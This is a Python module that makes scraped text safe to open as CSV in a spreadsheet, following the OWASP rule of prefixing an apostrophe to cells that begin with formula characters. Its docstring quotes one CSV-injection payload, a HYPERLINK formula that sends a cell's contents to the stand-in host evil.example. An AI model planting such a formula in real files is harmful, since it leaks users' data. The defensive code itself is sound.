"""CSV files that are safe to open in a spreadsheet.

Scraped text can begin with ``=``, ``+``, ``-`` or ``@``; a spreadsheet opening the CSV runs such a cell
as a formula (``=HYPERLINK("http://evil.example/?x="&A1,"click")``: CSV injection). Every CSV that
Sourcebook writes for people (the analysis tables and a report's ``data/``) passes its text cells
through ``neutralise``, the OWASP rule: a cell that begins with one of those characters, a tab or a
carriage return gets a leading apostrophe, which spreadsheets show as text and do not display. A
plain number ("-0.25", "+3") is left alone. A cell that itself begins with an apostrophe before one of
those characters gets one more, so ``restore`` (used when Sourcebook reads its own CSVs back) gives
the original text exactly: the notebooks and the Parquet table see the raw text, and offsets into it
stay true. Any other cell, one opening with "''" (a quote mark in some outlets' style) included, is
written as it is.
"""

from __future__ import annotations

import re

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER_RE = re.compile(r"[-+]?(?:\d+(?:[.,]\d+)*|\.\d+)(?:[eE][-+]?\d+)?%?")


def neutralise_cell(value):
    """One cell as a spreadsheet may safely open it; not text, or harmless text, is returned unchanged."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(FORMULA_STARTS):
        return value if _NUMBER_RE.fullmatch(value) else "'" + value
    if value.startswith("'") and value.lstrip("'").startswith(FORMULA_STARTS):
        return "'" + value  # "'=..." as written keeps its apostrophes through ``restore``
    return value


def restore_cell(value):
    """The inverse of ``neutralise_cell`` for the text Sourcebook wrote."""
    if isinstance(value, str) and value.startswith("'") and value.lstrip("'").startswith(FORMULA_STARTS):
        return value[1:]
    return value


def _text_columns(frame: pd.DataFrame) -> list:
    return [c for c in frame.columns if frame[c].dtype == object or pd.api.types.is_string_dtype(frame[c].dtype)]


def _starts(values: pd.Series, prefixes) -> pd.Series:
    """Which cells are text beginning with one of ``prefixes`` (vectorised: most cells are checked at C speed)."""
    text = values.where(values.map(type) == str, "") if values.dtype == object else values.fillna("")
    return text.astype(str).str.startswith(prefixes)


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are safe in a spreadsheet (numbers, dates and booleans untouched)."""
    columns = _text_columns(frame)
    if not columns:
        return frame
    out = frame.copy()
    for column in columns:
        risky = _starts(out[column], FORMULA_STARTS + ("'",))
        if risky.any():  # only the few cells that could need it go through the rule
            out[column] = out[column].astype(object)
            out.loc[risky, column] = out.loc[risky, column].map(neutralise_cell)
    return out


def restore(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` read from a CSV Sourcebook wrote, with its text cells as they were before ``neutralise``."""
    for column in _text_columns(frame):
        marked = _starts(frame[column], ("'",))
        if marked.any():
            frame[column] = frame[column].astype(object)
            frame.loc[marked, column] = frame.loc[marked, column].map(restore_cell)
    return frame


def write_csv(frame: pd.DataFrame, path) -> None:
    """Write ``frame`` as a CSV safe to open in a spreadsheet, fast (pyarrow's writer; pandas for odd columns)."""
    import pyarrow as pa
    import pyarrow.csv as pacsv

    safe = neutralise(frame)
    try:
        table = pa.Table.from_pandas(safe, preserve_index=False)
    except (pa.ArrowInvalid, pa.ArrowTypeError):  # a column of mixed types: pandas writes it as text
        safe.to_csv(path, index=False)
        return
    pacsv.write_csv(table, str(path))
